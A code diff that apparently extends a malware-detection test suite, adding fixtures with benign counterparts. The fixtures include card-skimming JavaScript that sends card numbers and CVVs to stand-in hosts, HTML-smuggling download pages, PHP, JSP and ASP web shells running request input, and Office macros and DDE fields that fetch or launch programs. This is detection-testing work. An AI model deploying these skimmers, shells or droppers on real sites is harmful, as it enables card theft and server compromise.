@@ -165,6 +165,99 @@ def card_skimmer_image_beacon() -> bytes:
     )
 
 
+def card_skimmer_fetch_form_data() -> bytes:
+    return (
+        b"document.addEventListener('submit',function(e){var f=e.target;"
+        b"if(!f.querySelector('[name=\"payment[cc_number]\"]'))return;var d=new FormData(f);"
+        b"d.append('cvv',f.querySelector('#cc_cid').value);"
+        b"fetch('https://static-cdn.invalid/collect',{method:'POST',mode:'no-cors',body:d});},true);\n"
+    )
+
+
+def card_skimmer_xhr() -> bytes:
+    return (
+        b"function s(){var n=jQuery('#card_number').val(),c=jQuery('#card_code').val(),"
+        b"x=jQuery('#exp_month').val()+'/'+jQuery('#exp_year').val();var r=new XMLHttpRequest();"
+        b"r.open('POST','https://jquery-cdn.invalid/api/log',true);"
+        b"r.setRequestHeader('Content-Type','text/plain');r.send([n,c,x].join('|'));}\n"
+        b"jQuery('button.checkout').on('click',s);\n"
+    )
+
+
+def card_skimmer_websocket() -> bytes:
+    return (
+        b"const ws=new WebSocket('wss://metrics.invalid/socket');\n"
+        b"document.querySelector('form').addEventListener('change',()=>{const v={n:document.getElementById"
+        b"('cardnumber').value,c:document.getElementById('cvc').value,e:document.getElementById('cc-exp')"
+        b".value};ws.readyState===1&&ws.send(JSON.stringify(v));});\n"
+    )
+
+
+def card_skimmer_script_tag() -> bytes:
+    return (
+        b"(function(){var f=document.forms[0];f.onsubmit=function(){var q=[];for(var i=0;i<f.elements.length;"
+        b"i++){q.push(f.elements[i].name+'='+f.elements[i].value)}"
+        b"if(q.join('&').indexOf('cc_number')>-1||q.join('&').indexOf('cvv')>-1){var t=document"
+        b".createElement('script');t.src='//analytics-js.invalid/t.js?'+encodeURIComponent(q.join('&'));"
+        b"document.head.appendChild(t)}}})();var names=['.cc-number','.cvv'];\n"
+    )
+
+
+def card_skimmer_hidden_url() -> bytes:
+    """The URL in base64 ("https://gate.invalid/g"); the page known by its address; every input taken."""
+    return (
+        b"if(/checkout|onepage/.test(window.location.href)){setInterval(function(){var o={};"
+        b"document.querySelectorAll('input,select').forEach(function(i){o[i.id||i.name]=i.value});"
+        b"var u=atob('aHR0cHM6Ly9nYXRlLmludmFsaWQvZw==');var x=new XMLHttpRequest();x.open('POST',u);"
+        b"x.send(btoa(JSON.stringify(o)))},3000)}\n"
+    )
+
+
+def card_skimmer_ajax_variable_url() -> bytes:
+    return (
+        b'var gate = "https://cdn-jquery.invalid/gate.php";\n'
+        b"$(document).on('click', '#onestepcheckout-place-order', function () {\n"
+        b"  var data = {number: $('#credit_card_number').val(), code: $('#security_code').val(),\n"
+        b"    exp: $('#expiration_date').val()};\n"
+        b"  $.ajax({url: gate, type: 'POST', data: data});\n});\n"
+    )
+
+
+def analytics_beacon_script() -> bytes:
+    """A tracker: sends page views and form interactions to its remote host, but reads no payment field."""
+    return (
+        b"(function(){var q=[];function send(){navigator.sendBeacon('https://stats.example.org/collect',"
+        b"JSON.stringify(q));q=[]}document.addEventListener('change',function(e){q.push({f:e.target.name,"
+        b"len:(e.target.value||'').length})});document.querySelectorAll('form').forEach(function(f){"
+        b"f.addEventListener('submit',send)});var i=new Image();i.src='https://stats.example.org/p.gif?u='"
+        b"+encodeURIComponent(location.href);})();\n"
+    )
+
+
+def card_format_library() -> bytes:
+    """A card input formatter (cleave/jquery.payment style): reads card fields, never sends them anywhere."""
+    return (
+        b"/*! cardfmt v2.1 | https://github.com/example/cardfmt | MIT */\n"
+        b"var Card={types:{visa:/^4/,mastercard:/^5[1-5]/},fmt:function(v){return v.replace(/\\D/g,'')"
+        b".replace(/(\\d{4})(?=\\d)/g,'$1 ')},bind:function(){var n=document.querySelector('#card-number'),"
+        b"c=document.querySelector('#cvc'),e=document.querySelector('#expiry-date');"
+        b"n.addEventListener('input',function(){n.value=Card.fmt(n.value)});"
+        b"e.addEventListener('input',function(){e.value=e.value.replace(/^(\\d\\d)(\\d)/,'$1/$2')});"
+        b"c.maxLength=4}};\n"
+    )
+
+
+def checkout_same_origin_fetch() -> bytes:
+    """The shop's own checkout posting to its own origin, built from location.origin (not a literal)."""
+    return (
+        b"const form=document.querySelector('#pay');form.addEventListener('submit',async ev=>{"
+        b"ev.preventDefault();const body={number:form.querySelector('[name=card_number]').value,"
+        b"cvc:form.querySelector('[name=cvc]').value,exp:form.querySelector('[name=exp_date]').value};"
+        b"await fetch(location.origin+'/api/checkout',{method:'POST',body:JSON.stringify(body)});"
+        b"const help=new Image();help.src=window.STATIC_URL+'/spinner.gif';});\n"
+    )
+
+
 def checkout_form_script() -> bytes:
     """A shop's own checkout: reads the card fields, validates, posts to its own relative endpoint."""
     return (
@@ -223,6 +316,126 @@ def html_smuggling_executable() -> bytes:
     return _smuggling_page(base64.b64encode(pranks.pe_header() * 3).decode())
 
 
+def _payload_b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+def smuggling_ms_save_iso() -> bytes:
+    """A disk image starts with 32 KiB of zeros: no telling magic, so the name and the size tell."""
+    iso = bytes(32768) + b"\x01CD001\x01" + bytes(2040)
+    return (
+        "<script>\nvar p = '" + _payload_b64(iso) + "';\n"
+        "var raw = window.atob(p), bytes = new Uint8Array(raw.length);\n"
+        "for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);\n"
+        "var blob = new Blob([bytes], {type: 'application/x-iso9660-image'});\n"
+        "if (window.navigator.msSaveOrOpenBlob) {\n"
+        "  window.navigator.msSaveOrOpenBlob(blob, 'scan_0412.iso'); }\n"
+        "else { var a = document.createElement('a'); a.href = URL.createObjectURL(blob);"
+        " a.download = 'scan_0412.iso'; a.click(); }\n</script>\n"
+    ).encode()
+
+
+def smuggling_hex_executable() -> bytes:
+    payload = (pranks.pe_header() * 4).hex()
+    return (
+        f'<script>const h="{payload}";const b=new Uint8Array(h.length/2);'
+        "for(let i=0;i<b.length;i++)b[i]=parseInt(h.substr(i*2,2),16);"
+        "const u=URL.createObjectURL(new File([b],'update.exe',{type:'application/octet-stream'}));"
+        "const l=document.createElement('a');l.href=u;l.setAttribute('download','update.exe');"
+        "l.dispatchEvent(new MouseEvent('click'));</script>\n"
+    ).encode()
+
+
+def smuggling_reversed_chunks() -> bytes:
+    """Base64 of a zip, reversed, cut into chunks joined at run time, opened with window.open."""
+    reversed_b64 = _payload_b64(pranks.clean_zip() * 2)[::-1]
+    chunks = ",".join(f"'{reversed_b64[i : i + 64]}'" for i in range(0, len(reversed_b64), 64))
+    return (
+        f"<script>var parts=[{chunks}];var s=atob(parts.join('').split('').reverse().join(''));"
+        "var a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);"
+        "window.open(URL.createObjectURL(new Blob([a],{type:'application/zip'})));</script>\n"
+    ).encode()
+
+
+def smuggling_chunked_hta() -> bytes:
+    hta = (
+        b'<hta:application id="x" />'
+        b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
+    )
+    encoded = _payload_b64(hta * 3)
+    chunks = " + ".join(f'"{encoded[i : i + 48]}"' for i in range(0, len(encoded), 48))
+    encoded_zip = _payload_b64(pranks.clean_zip())
+    zip_chunks = " + ".join(f'"{encoded_zip[i : i + 48]}"' for i in range(0, len(encoded_zip), 48))
+    return (
+        f"<script>var d = {chunks};\nvar z = {zip_chunks};\n"
+        "var bin = atob(d); var buf = Uint8Array.from(bin, c => c.charCodeAt(0));\n"
+        "location.href = URL.createObjectURL(new Blob([buf], {type: 'application/hta'}));\n</script>\n"
+    ).encode()
+
+
+def smuggling_xor_payload() -> bytes:
+    key = 0x5A
+    xored = bytes(b ^ key for b in pranks.pe_header() * 12)
+    return (
+        "<script>var k=90,e='" + _payload_b64(xored) + "';var r=atob(e),o=new Uint8Array(r.length);"
+        "for(var i=0;i<r.length;i++){o[i]=r.charCodeAt(i)^k}var b=new Blob([o]);var a=document."
+        "createElement('a');a.href=URL.createObjectURL(b);a.download='setup.msi';a.click();</script>\n"
+    ).encode()
+
+
+def smuggling_data_uri_link() -> bytes:
+    """No script at all: a link whose data: URI is a zip, with a download attribute."""
+    return (
+        '<html><body><p>Your documents are ready.</p><a id=d href="data:application/zip;base64,'
+        + _payload_b64(pranks.clean_zip())
+        + '" download="documents.zip">Download</a></body></html>\n'
+    ).encode()
+
+
+def smuggling_data_uri_script() -> bytes:
+    return (
+        "<script>var l=document.createElement('a');l.href='data:application/octet-stream;base64,"
+        + _payload_b64(pranks.pe_header())
+        + "';l.download='invoice.pdf.exe';document.body.appendChild(l);l.click();</script>\n"
+    ).encode()
+
+
+def zip_made_in_the_browser_page() -> bytes:
+    """JSZip-style album download: a Blob of an archive made from fetched photos, no embedded payload."""
+    return (
+        b"<script>async function album(){const zip=new JSZip();for(const u of photos){"
+        b"const r=await fetch(u);zip.file(u.split('/').pop(),await r.arrayBuffer())}"
+        b"const blob=await zip.generateAsync({type:'blob'});"
+        b"const a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='camp-photos.zip';"
+        b"a.click();URL.revokeObjectURL(a.href)}</script>\n"
+    )
+
+
+def pdf_download_from_server_page() -> bytes:
+    """A report page: decodes a PDF the server sent as base64, next to a large inline logo."""
+    logo = _payload_b64(pranks.clean_png() * 20)
+    return (
+        f'<img src="data:image/png;base64,{logo}" alt="logo"><script>\n'
+        "fetch('/api/report').then(r=>r.json()).then(j=>{const s=atob(j.pdf);"
+        "const b=new Uint8Array(s.length);"
+        "for(let i=0;i<s.length;i++)b[i]=s.charCodeAt(i);const a=document.createElement('a');"
+        "a.href=URL.createObjectURL(new Blob([b],{type:'application/pdf'}));"
+        "a.download='report.pdf';a.click()});"
+        "\n</script>\n"
+    ).encode()
+
+
+def image_data_uri_download_page() -> bytes:
+    """ "Save your badge": a PNG data: URI with a download attribute, and a web font as octet-stream."""
+    return (
+        "<style>@font-face{font-family:camp;src:url(data:application/octet-stream;base64,d09GRgABAAAAA"
+        + "A" * 200
+        + ')}</style><a href="data:image/png;base64,'
+        + _payload_b64(pranks.clean_png())
+        + '" download="badge.png">Save your badge</a>\n'
+    ).encode()
+
+
 def csv_export_page() -> bytes:
     """An ordinary "download as CSV" button, next to an inline PNG logo: a Blob, but of computed data."""
     logo = base64.b64encode(pranks.clean_png()).decode()
@@ -260,6 +473,61 @@ def php_dynamic_call() -> bytes:
     return b"<?php $_POST['f']($_POST['a']); ?>\n"
 
 
+def php_concatenated_variable_function() -> bytes:
+    return b"<?php\n$f = 'sy' . 'st' . 'em';\n$f($_REQUEST['c']);\n?>\n"
+
+
+def php_assert_variable() -> bytes:
+    return b'<?php $a = "as" . "se" . "rt"; @$a(${"_POST"}[\'z\']); ?>\n'
+
+
+def php_preg_replace_e() -> bytes:
+    return b"<?php @preg_replace('/.*/e', $_POST['code'], ''); ?>\n"
+
+
+def php_create_function() -> bytes:
+    return b"<?php $g = create_function('', $_GET['x']); $g(); ?>\n"
+
+
+def php_backtick_variable() -> bytes:
+    return b"<?php $cmd = $_COOKIE['k']; $out = `$cmd`; echo $out; ?>\n"
+
+
+def php_rot13_chain() -> bytes:
+    payload = base64.b64encode(b"echo 'pranked';").decode()
+    return f"<?php $x = str_rot13(gzinflate(str_rot13(base64_decode('{payload}')))); eval($x); ?>\n".encode()
+
+
+def php_chr_variable_function() -> bytes:
+    return b"<?php $s = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $s('id'); ?>\n"
+
+
+def php_callback_assert() -> bytes:
+    return b"<?php array_map('assert', (array)$_REQUEST['p']); ?>\n"
+
+
+def php_globals_include() -> bytes:
+    return b"<?php include $GLOBALS['_GET']['p']; @include($_GET['tpl']); ?>\n"
+
+
+def php_reversed_name() -> bytes:
+    return b"<?php $k = strrev('tressa'); $k(base64_decode('ZWNobyAxOw==')); ?>\n"
+
+
+def php_framework_page() -> bytes:
+    """A router and a template cache: callbacks, eval of compiled templates, base64 of tokens."""
+    return (
+        b"<?php\nrequire $_SERVER['DOCUMENT_ROOT'] . '/vendor/autoload.php';\n"
+        b"$routes = ['home' => [HomeController::class, 'show']];\n"
+        b"$handler = $routes[$_GET['r'] ?? 'home'] ?? $routes['home'];\n"
+        b"echo call_user_func($handler, $request);\n"
+        b"$token = json_decode(base64_decode(strtr($parts[1], '-_', '+/')), true);\n"
+        b"usort($rows, fn($a, $b) => $a['date'] <=> $b['date']);\n"
+        b"$compiled = $cache->get($template);\neval('?>' . $compiled);\n"
+        b"$html = preg_replace('/\\s+/', ' ', $html);\n?>\n"
+    )
+
+
 def php_ordinary_page() -> bytes:
     """Reads request parameters, runs a fixed command, includes a template: not a shell."""
     return (
@@ -294,6 +562,22 @@ def jsp_class_loader() -> bytes:
     )
 
 
+def jsp_reflection() -> bytes:
+    return (
+        b'<%@ page import="java.lang.reflect.*" %><%\nClass<?> c = Class.forName("java.lang.Runtime");\n'
+        b'Object rt = c.getMethod("getRuntime").invoke(null);\n'
+        b'c.getMethod("exec", String.class).invoke(rt, request.getParameter("q"));\n%>\n'
+    )
+
+
+def jspx_script_engine() -> bytes:
+    return (
+        b'<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>\n'
+        b'javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");\n'
+        b'out.println(e.eval(request.getParameter("s")));\n</jsp:scriptlet></jsp:root>\n'
+    )
+
+
 def jsp_ordinary_page() -> bytes:
     return (
         b'<%@ page contentType="text/html" %><html><body><% String n = request.getParameter("name"); %>'
@@ -316,6 +600,26 @@ def aspx_process_start() -> bytes:
 
 def asp_execute_request() -> bytes:
     return b'<% execute request("x") %>\n'
+
+
+def asp_wscript_shell() -> bytes:
+    return (
+        b'<%\nSet sh = Server.CreateObject("WScript.Shell")\n'
+        b'Set ex = sh.Exec("cmd /c " & Request.Form("c"))\nResponse.Write ex.StdOut.ReadAll()\n%>\n'
+    )
+
+
+def aspx_assembly_load() -> bytes:
+    return (
+        b'<%@ Page Language="C#" %><%\n'
+        b'byte[] k = System.Text.Encoding.Default.GetBytes("3c6e0b8a9c15224a");\n'
+        b'var raw = Convert.FromBase64String(Request.Form["p"]);\n'
+        b'System.Reflection.Assembly.Load(raw).CreateInstance("U").Equals(this);\n%>\n'
+    )
+
+
+def aspx_eval_unsafe_concat() -> bytes:
+    return b'<%@ Page Language="Jscript"%><%var k="pa"+"ss";eval(Request.Form[k],"unsafe");%>\n'
 
 
 def aspx_ordinary_page() -> bytes:
@@ -397,6 +701,94 @@ def docm_member(macro: str) -> bytes:
         return archive.read("word/vbaProject.bin")
 
 
+def vba_source(procedure: str, body: str) -> bytes:
+    """A VBA module's source as oletools extracts and decompresses it from a project."""
+    return (
+        f'Attribute VB_Name = "Module1"\r\nOption Explicit\r\n\r\nSub {procedure}()\r\n{body}End Sub\r\n'
+    ).encode()
+
+
+VBA_AUTORUN_SOURCES = {
+    "vba-document-open-shell": vba_source("Document_Open", '  Shell "cmd /c calc.exe", vbHide\r\n'),
+    "vba-autoopen-wscript": vba_source(
+        "AutoOpen", '  CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c 1"\r\n'
+    ),
+    "vba-workbook-open-download": vba_source(
+        "Workbook_Open",
+        '  URLDownloadToFileA 0, "https://x.invalid/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\r\n',
+    ),
+    "vba-autoclose-stream": vba_source(
+        "Auto_Close",
+        '  Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
+        '  h.Open "GET", "https://x.invalid/p", False\r\n  h.Send\r\n'
+        '  Set s = CreateObject("ADODB.Stream")\r\n  s.Open\r\n  s.Write h.responseBody\r\n'
+        '  s.SaveToFile "p.exe", 2\r\n',
+    ),
+    "vba-document-close-wmi": vba_source(
+        "Document_Close",
+        '  GetObject("winmgmts:").Get("Win32_Process").Create "mshta x.invalid/h", 0, 0, 0\r\n',
+    ),
+    "vba-workbook-activate-file": vba_source(
+        "Workbook_Activate",
+        '  Open Environ("APPDATA") & "\\s.vbs" For Output As #1\r\n  Print #1, "x"\r\n  Close #1\r\n',
+    ),
+}
+
+
+def vba_autorun_formatting() -> bytes:
+    """Runs on opening, but only formats the document: no write, download or execute."""
+    return vba_source(
+        "Document_Open", '  ActiveDocument.Range.Font.Name = "Arial"\r\n  Selection.HomeKey\r\n'
+    )
+
+
+def vba_button_macro_with_shell() -> bytes:
+    """Starts a program, but only when the user presses the button: not auto-run."""
+    return vba_source("OpenCalculator_Click", '  Shell "calc.exe", vbNormalFocus\r\n')
+
+
+def xlsm_workbook_auto_open() -> bytes:
+    return (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.'
+        b'openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Macro1" sheetId="1" r:id="rId1"/>'
+        b'</sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
+        b"</definedNames></workbook>\n"
+    )
+
+
+def xlm_macrosheet_exec() -> bytes:
+    return (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet xmlns:xm="http://schemas.'
+        b'microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
+        b'</row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>\n'
+    )
+
+
+def docx_ddeauto_field() -> bytes:
+    return (
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
+        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
+        b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
+        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>\n'
+    )
+
+
+def rtf_dde_field() -> bytes:
+    return (
+        b"{\\rtf1\\ansi {\\field{\\*\\fldinst {\\rtlch DDEAUTO "
+        b'c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"}}}}\n'
+    )
+
+
+def workbook_with_print_area() -> bytes:
+    """Ordinary defined names (a print area) and an ordinary field (a page number)."""
+    return (
+        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
+        b'<definedName name="_xlnm.Print_Area" localSheetId="0">Sheet1!$A$1:$F$40</definedName>'
+        b"</definedNames></workbook>\n<w:instrText> PAGE </w:instrText> The DDE lesson: DDEAUTO fields.\n"
+    )
+
+
 def pranks_docm_vba_project() -> bytes:
     with zipfile.ZipFile(io.BytesIO(pranks.macro_docm())) as archive:
         return archive.read("word/vbaProject.bin")
@@ -476,6 +868,8 @@ def eicar_padded_too_long() -> bytes:
     return pranks.eicar() + b" " * 100
 
 
+SMUGGLED = "HTML_Smuggling_Embedded_Blob_Download"
+
 CASES: tuple[RuleCase, ...] = (
     # EICAR
     _case("eicar", "eicar.com", pranks.eicar, "EICAR_Test_File"),
@@ -507,6 +901,18 @@ CASES: tuple[RuleCase, ...] = (
     _case("neg-set-attribute-iframe", "site/js/video.js", set_attribute_far_from_script),
     _case("card-skimmer-beacon", "shop/js/checkout.js", card_skimmer, "WebInject_Card_Skimmer"),
     _case("card-skimmer-image", "shop/js/form.js", card_skimmer_image_beacon, "WebInject_Card_Skimmer"),
+    _case("card-skimmer-fetch", "shop/js/mage.js", card_skimmer_fetch_form_data, "WebInject_Card_Skimmer"),
+    _case("card-skimmer-xhr", "shop/js/cart.js", card_skimmer_xhr, "WebInject_Card_Skimmer"),
+    _case("card-skimmer-websocket", "shop/js/live.js", card_skimmer_websocket, "WebInject_Card_Skimmer"),
+    _case("card-skimmer-script-tag", "shop/js/t.js", card_skimmer_script_tag,
+          "WebInject_Card_Skimmer", "WebInject_Remote_Script_Writer"),
+    _case("card-skimmer-hidden-url", "shop/js/jquery.min.js", card_skimmer_hidden_url,
+          "WebInject_Card_Skimmer"),
+    _case("card-skimmer-ajax-variable", "shop/js/osc.js", card_skimmer_ajax_variable_url,
+          "WebInject_Card_Skimmer"),
+    _case("neg-analytics-beacon", "site/js/stats.js", analytics_beacon_script),
+    _case("neg-card-formatter", "shop/js/cardfmt.js", card_format_library),
+    _case("neg-checkout-same-origin", "shop/js/pay.js", checkout_same_origin_fetch),
     _case("neg-minified-library", "site/js/camplib.min.js", lambda: MINIFIED_LIBRARY),
     _case("neg-pranks-clean-js", "site/js/app.js", pranks.clean_js),
     _case("neg-tag-manager-page", "site/index.html", tag_manager_page),
@@ -516,9 +922,22 @@ CASES: tuple[RuleCase, ...] = (
     _case("coinhive", "site/games.html", coinhive_page, "Cryptominer_Browser"),
     _case("generic-miner", "site/js/worker-start.js", generic_miner_script, "Cryptominer_Browser"),
     _case("neg-wasm-filters", "site/js/filters.js", wasm_image_filter_script),
-    _case("smuggling-zip", "invoice.html", html_smuggling_zip, "HTML_Smuggling_Embedded_Blob_Download"),
-    _case("smuggling-exe", "invoice.htm", html_smuggling_executable, "HTML_Smuggling_Embedded_Blob_Download"),
+    _case("smuggling-zip", "invoice.html", html_smuggling_zip, SMUGGLED),
+    _case("smuggling-exe", "invoice.htm", html_smuggling_executable, SMUGGLED),
+    _case("smuggling-ms-save-iso", "scan.html", smuggling_ms_save_iso, SMUGGLED),
+    _case("smuggling-hex-exe", "update.html", smuggling_hex_executable, SMUGGLED),
+    _case("smuggling-reversed-chunks", "fax.html", smuggling_reversed_chunks,
+          SMUGGLED),
+    _case("smuggling-chunked-hta", "doc.html", smuggling_chunked_hta, SMUGGLED),
+    _case("smuggling-xor", "setup.html", smuggling_xor_payload, SMUGGLED),
+    _case("smuggling-data-uri-link", "documents.html", smuggling_data_uri_link,
+          "HTML_Smuggling_Data_URI_Download"),
+    _case("smuggling-data-uri-script", "invoice.html", smuggling_data_uri_script,
+          "HTML_Smuggling_Data_URI_Download"),
     _case("neg-csv-export", "site/timetable.html", csv_export_page),
+    _case("neg-zip-made-in-browser", "site/album.html", zip_made_in_the_browser_page),
+    _case("neg-pdf-from-server", "site/report.html", pdf_download_from_server_page),
+    _case("neg-image-data-uri-download", "site/badge.html", image_data_uri_download_page),
     # web shells
     _case("php-system-get", "uploads/avatar.php", php_system_get, "Webshell_PHP_Request_Exec"),
     _case("php-eval-base64-post", "uploads/x.php", php_eval_base64_post,
@@ -526,14 +945,32 @@ CASES: tuple[RuleCase, ...] = (
     _case("php-encoded-payload", "wp-content/cache.php", php_encoded_payload, "Webshell_PHP_Encoded_Payload"),
     _case("php-backtick", "uploads/c.php", php_backtick, "Webshell_PHP_Request_Exec"),
     _case("php-dynamic-call", "uploads/f.php", php_dynamic_call, "Webshell_PHP_Request_Exec"),
+    _case("php-concat-variable-function", "uploads/v.php", php_concatenated_variable_function,
+          "Webshell_PHP_Request_Exec"),
+    _case("php-assert-variable", "uploads/a.php", php_assert_variable, "Webshell_PHP_Request_Exec"),
+    _case("php-preg-replace-e", "uploads/p.php", php_preg_replace_e, "Webshell_PHP_Request_Exec"),
+    _case("php-create-function", "uploads/g.php", php_create_function, "Webshell_PHP_Request_Exec"),
+    _case("php-backtick-variable", "uploads/b.php", php_backtick_variable, "Webshell_PHP_Request_Exec"),
+    _case("php-rot13-chain", "wp-content/rot.php", php_rot13_chain, "Webshell_PHP_Encoded_Payload"),
+    _case("php-chr-function", "wp-content/chr.php", php_chr_variable_function,
+          "Webshell_PHP_Encoded_Payload"),
+    _case("php-callback-assert", "uploads/m.php", php_callback_assert, "Webshell_PHP_Request_Exec"),
+    _case("php-globals-include", "uploads/i.php", php_globals_include, "Webshell_PHP_Request_Exec"),
+    _case("php-reversed-name", "uploads/r.php", php_reversed_name, "Webshell_PHP_Encoded_Payload"),
     _case("neg-php-page", "site/index.php", php_ordinary_page),
+    _case("neg-php-framework", "site/app.php", php_framework_page),
     _case("jsp-exec-param", "uploads/cmd.jsp", jsp_exec_param, "Webshell_JSP_Command_Exec"),
     _case("jsp-process-builder", "uploads/pb.jsp", jsp_process_builder, "Webshell_JSP_Command_Exec"),
     _case("jsp-class-loader", "uploads/cl.jsp", jsp_class_loader, "Webshell_JSP_Command_Exec"),
+    _case("jsp-reflection", "uploads/r.jsp", jsp_reflection, "Webshell_JSP_Command_Exec"),
+    _case("jspx-script-engine", "uploads/s.jspx", jspx_script_engine, "Webshell_JSP_Command_Exec"),
     _case("neg-jsp-page", "site/hello.jsp", jsp_ordinary_page),
     _case("aspx-china-chopper", "uploads/a.aspx", aspx_china_chopper, "Webshell_ASPX_Command_Exec"),
     _case("aspx-process-start", "uploads/p.aspx", aspx_process_start, "Webshell_ASPX_Command_Exec"),
     _case("asp-execute-request", "uploads/e.asp", asp_execute_request, "Webshell_ASPX_Command_Exec"),
+    _case("asp-wscript-shell", "uploads/w.asp", asp_wscript_shell, "Webshell_ASPX_Command_Exec"),
+    _case("aspx-assembly-load", "uploads/l.aspx", aspx_assembly_load, "Webshell_ASPX_Command_Exec"),
+    _case("aspx-eval-unsafe-concat", "uploads/u.aspx", aspx_eval_unsafe_concat, "Webshell_ASPX_Command_Exec"),
     _case("neg-aspx-page", "site/camper.aspx", aspx_ordinary_page),
     # executables in disguise
     _case("pe-as-jpg", "photos/badge.jpg", pranks.pe_as_jpg, "Disguised_Executable_PE"),
@@ -557,6 +994,19 @@ CASES: tuple[RuleCase, ...] = (
     _case("neg-vba-without-autoexec", "plan.docm!word/vbaProject.bin", lambda: docm_member(PLAIN_MACRO)),
     _case("neg-doc-about-macros", "lessons/macros.doc", legacy_doc_about_macros),
     _case("neg-docm-package", "timetable.docm", pranks.macro_docm),
+    *(
+        _case(id_, f"plan.docm!VBA/{id_}", lambda data=data: data, "Office_VBA_AutoExec_Source")
+        for id_, data in VBA_AUTORUN_SOURCES.items()
+    ),
+    _case("xlsm-auto-open-name", "budget.xlsm!xl/workbook.xml", xlsm_workbook_auto_open,
+          "Office_XLM_Auto_Open"),
+    _case("xlm-macrosheet-exec", "budget.xlsm!xl/macrosheets/sheet1.xml", xlm_macrosheet_exec,
+          "Office_XLM_Auto_Open"),
+    _case("docx-ddeauto", "letter.docx!word/document.xml", docx_ddeauto_field, "Office_DDE_Field"),
+    _case("rtf-dde", "letter.rtf", rtf_dde_field, "Office_DDE_Field"),
+    _case("neg-vba-autorun-formatting", "plan.docm!word/vbaProject.bin!VBA/Module1", vba_autorun_formatting),
+    _case("neg-vba-button-shell", "plan.docm!word/vbaProject.bin!VBA/Module1", vba_button_macro_with_shell),
+    _case("neg-print-area-and-page-field", "budget.xlsx!xl/workbook.xml", workbook_with_print_area),
     # PDF
     _case("pdf-openaction-js", "docs/timetable.pdf", pdf_open_action_javascript,
           "PDF_JavaScript", "PDF_OpenAction_Script"),
